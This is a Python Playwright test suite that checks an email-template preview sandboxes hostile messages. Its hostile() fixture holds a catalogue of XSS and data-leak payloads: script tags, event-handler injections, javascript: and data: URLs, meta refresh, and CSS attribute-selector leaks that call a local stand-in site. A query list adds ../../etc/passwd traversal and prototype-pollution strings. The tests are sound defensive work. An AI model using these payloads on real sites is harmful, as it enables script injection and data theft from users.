"""A message is shown, and never runs: whatever its template, its copy and its data are."""

import re
import socket
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from tests.preview.browser.conftest import Faults
from tests.preview.browser.served import Preview
from tests.servers.listener import HOST, Listener

TEMPLATE = "templates/welcome/email.mjml"
OWN = "top.owned=1;parent.owned=1;window.owned=1;parent.document.title='owned'"
# What Chromium says of what it keeps a message from.
REFUSED = r"/api/events|Content Security Policy|sandboxed|Unsafe attempt|asked for|/frame/welcome/x\)"


class Recorder:
    """A site of somebody else on this machine: how many `connections` it had, and which `paths` were asked for."""

    def __init__(self) -> None:
        self.connections = 0
        self.paths: list[str] = []
        self._listener = Listener(self._take)
        self.site = f"http://{HOST}:{self._listener.port}"
        self._listener.start()

    def stop(self) -> None:
        self._listener.stop()

    def _take(self, connection: socket.socket) -> None:
        with connection:
            self.connections += 1
            # A browser opens more of them than it uses.
            connection.settimeout(0.5)
            with suppress(TimeoutError, ConnectionError):
                said = connection.recv(1 << 16)
                self.paths += re.findall(r"^GET (\S+)", said.decode("latin-1"))
                connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


@pytest.fixture
def recorder(loopback: None) -> Iterator[Recorder]:
    started = Recorder()
    yield started
    started.stop()


def hostile(site: str) -> str:
    """MJML with what a mail should not have, in its head and in its body."""
    head = f"""
      <base href="{site}/base/">
      <meta http-equiv="refresh" content="0;url={site}/refresh">
      <meta http-equiv="refresh" content="0;url=javascript:{OWN}">
      <meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
      <link rel="stylesheet" href="{site}/link.css">
      <link rel="preload" as="image" href="{site}/preload.png">
      <link rel="prefetch" href="{site}/prefetch">
      <link rel="preconnect" href="{site}/">
      <link rel="icon" href="{site}/icon.png">
      <link rel="manifest" href="{site}/manifest.json">
      <script>{OWN}</script>
      <script src="{site}/script.js"></script>
      <script type="module">{OWN}</script>
      <style>
        @import url({site}/import.css);
        @font-face {{ font-family: f; src: url({site}/font.woff); }}
        body {{ background: url({site}/background.png); font-family: f; }}
        [value^="s"] {{ background: url({site}/leak.png); }}
      </style>"""
    body = f"""
      <div style="position: fixed; inset: -999px; z-index: 2147483647; background: red">COVER</div>
      <img src="{site}/image.png" srcset="{site}/srcset.png 2x" onerror="{OWN}" alt="A">
      <img src="x" onerror="{OWN}" alt="B">
      <picture><source srcset="{site}/source.png"><img src="{site}/picture.png" alt="C"></picture>
      <svg onload="{OWN}" width="9" height="9"><script>{OWN}</script><image href="{site}/svg.png" />
        <use href="{site}/use.svg#a" /><set attributeName="onmouseover" to="{OWN}" /></svg>
      <iframe src="{site}/iframe"></iframe>
      <iframe src="javascript:{OWN}"></iframe>
      <iframe srcdoc="&lt;script&gt;{OWN}&lt;/script&gt;&lt;link rel=preconnect href={site}&gt;"></iframe>
      <iframe src="/"></iframe>
      <object data="{site}/object"></object><embed src="{site}/embed">
      <video src="{site}/video" poster="{site}/poster.png" autoplay></video><audio src="{site}/audio" autoplay></audio>
      {'<img src="/api/events" alt="">' * 7}
      <details open ontoggle="{OWN}"><summary>D</summary></details>
      <input autofocus onfocus="{OWN}" value="secret">
      <table background="{site}/table.png"><tr><td style="background-image: url({site}/cell.png)">E</td></tr></table>
      <form action="{site}/form" target="_top"><button id="submit">Submit</button></form>
      <form action="javascript:{OWN}"><button id="run">Run</button></form>
      <p><a id="script" href="javascript:{OWN}">script</a></p>
      <p><a id="data" href="data:text/html,&lt;script&gt;{OWN}&lt;/script&gt;" target="_top">data</a></p>
      <p><a id="top" href="{site}/top" target="_top" ping="{site}/ping">top</a></p>
      <p><a id="self" href="{site}/self">self</a></p>
      <p><a id="blank" href="{site}/blank" target="_blank">blank</a></p>
      <p><a id="relative" href="/api/catalogue" target="_top">relative</a></p>
      <svg width="9" height="9"><a id="drawn" xlink:href="{site}/drawn"><circle r="9" /></a>
        <a id="moving" href="#" target="_top"><set attributeName="href" to="{site}/moving" /><circle r="9" /></a></svg>
      <math><mi id="formula" href="{site}/formula">x</mi></math>
      <map name="m"><area id="area" href="{site}/area" alt="F"></map>
      <p id="last">The last words</p>"""
    column = f"<mj-section><mj-column><mj-raw>{body}</mj-raw><mj-text>Words</mj-text></mj-column></mj-section>"
    return f"<mjml><mj-head><mj-raw>{head}</mj-raw></mj-head><mj-body>{column}</mj-body></mjml>\n"


def expect_untouched(page: Page, recorder: Recorder) -> None:
    """The page is as it was, nothing of the message ran, and nobody else heard of it."""
    assert page.evaluate("window.owned") is None
    assert [frame.evaluate("window.owned") for frame in page.frames if "/frame/" in frame.url] in ([None], [None] * 2)
    expect(page).to_have_title(re.compile("notify$"))
    assert page.context.pages == [page]
    assert recorder.connections == 0


def test_nothing_of_a_message_runs_loads_or_leads_away(
    preview: Preview, page: Page, recorder: Recorder, faults: Faults
) -> None:
    preview.write(TEMPLATE, hostile(recorder.site))
    page.goto(preview.url(id="welcome"))
    message = page.frame_locator("#stage iframe").first
    expect(message.locator("#last")).to_have_text("The last words")
    expect_untouched(page, recorder)
    address = page.url
    for name in ("submit", "run", "script", "data", "top", "self", "relative", "drawn", "moving", "formula", "area"):
        # Whatever lies over it, as somebody does who gets there with the keyboard.
        message.locator(f"#{name}").dispatch_event("click")
        message.locator(f"#{name}").press("Enter")
    # What is drawn is a link like others, also where a browser does not tell the page of a click.
    assert message.locator("#drawn").evaluate("link => [link.href.baseVal, link.target.baseVal]") == [
        f"{recorder.site}/drawn",
        "_blank",
    ]
    assert message.locator("#moving").evaluate("link => [link.href.animVal, link.target.animVal]") == ["#", "_blank"]
    assert message.locator("#formula").get_attribute("href") is None
    expect(message.locator("#last")).to_have_text("The last words")
    expect_untouched(page, recorder)
    assert page.url == address
    # It takes nothing that the page needs, and covers nothing but itself.
    preview.replace(TEMPLATE, "The last words", "The very last words")
    expect(message.locator("#last")).to_have_text("The very last words")
    assert page.evaluate("document.elementFromPoint(5, 5).closest('iframe, main')") is None
    faults.forgive(REFUSED)


@pytest.mark.parametrize("away", ["http://127.0.0.1:1/", "about:blank", "/api/catalogue", "/frame/welcome/none.png"])
def test_a_message_comes_back_wherever_its_frame_was_led(
    preview: Preview, page: Page, faults: Faults, away: str
) -> None:
    page.goto(preview.url(id="welcome"))
    message = page.frame_locator("#stage iframe").first
    expect(message.locator("h1")).to_be_visible()
    with page.expect_event("framenavigated"):
        page.evaluate("away => { frames[0].location.href = away; }", away)
    preview.replace("templates/welcome/copy/en.yaml", "Welcome, {{ user.first_name }}", "Here again")
    expect(message.locator("h1")).to_have_text("Here again")
    faults.append("gone away")
    faults.forgive("gone away|127.0.0.1|ERR_|frame|chrome-error")


@pytest.mark.parametrize("view", ["wall", "compare"])
def test_nothing_of_a_message_runs_among_others(
    preview: Preview, page: Page, recorder: Recorder, faults: Faults, view: str
) -> None:
    preview.write(TEMPLATE, hostile(recorder.site))
    page.goto(preview.url(id="welcome", view=view, find="welcome"))
    shown = page.locator("#stage iframe").first.content_frame
    expect(shown.locator("#last")).to_have_text("The last words")
    assert page.evaluate("window.owned") is None
    assert recorder.connections == 0
    faults.forgive(REFUSED)


def test_images_of_others_are_loaded_once_somebody_says_so(
    preview: Preview, page: Page, recorder: Recorder, faults: Faults
) -> None:
    preview.write(TEMPLATE, hostile(recorder.site))
    with page.expect_request(re.compile("/image.png|/srcset.png")):
        page.goto(preview.url(id="welcome", remote="on"))
    message = page.frame_locator("#stage iframe").first
    expect(message.locator("#last")).to_have_text("The last words")
    assert page.evaluate("window.owned") is None
    loaded = {path for path in recorder.paths if not re.search(r"\.(png|css|woff)$", path)}
    assert loaded == set()
    faults.forgive(rf"{REFUSED}|{recorder.site}")


def test_what_inboxes_show_is_text(preview: Preview, page: Page) -> None:
    markup = f"<img src=x onerror={OWN}>"
    preview.write(
        "templates/welcome/copy/en.yaml",
        f"subject: \"{markup} \\u202E\\u2066\\u2067 evil\"\npreheader: '{markup}'\n"
        + preview.read("templates/welcome/copy/en.yaml").partition("heading:")[1]
        + preview.read("templates/welcome/copy/en.yaml").partition("heading:")[2],
    )
    page.goto(preview.url(id="welcome"))
    expect(page.locator("main")).to_contain_text(markup)
    assert page.locator("img[src=x]").count() == 0
    assert page.evaluate("window.owned") is None


QUERIES = (
    f"id={quote('<img src=x onerror=top.owned=1>')}",
    f"id={quote('../../etc/passwd')}&view=nonsense&tab=../x&channel=nonsense&locale=%3Cb%3E&sample=../../x",
    "id=welcome&width=1e99&scheme=nonsense&images=nonsense&text=-1&remote=nonsense&by=nonsense&only=nonsense",
    "id=welcome&set=__proto__.owned=1&set=constructor.prototype.owned=1&set==&set=x&set=user.first_name=%3Cb%3E",
    f"id=%00&find=%ff%00{'x' * 5_000}",
    "id=constructor&locale=__proto__",
    "id=welcome&tab=constructor",
    "view=wall&find=%5B(&locale=zz",
    "view=compare&id=nonsense&by=widths",
)


def test_an_address_is_anything(preview: Preview, page: Page) -> None:
    for query in QUERIES:
        page.goto(f"{preview.address}?{query}")
        expect(page.get_by_role("navigation")).to_contain_text("24 notifications")
        expect(page.locator("main")).not_to_have_text("")
        assert page.evaluate("window.owned ?? ({}).owned") is None
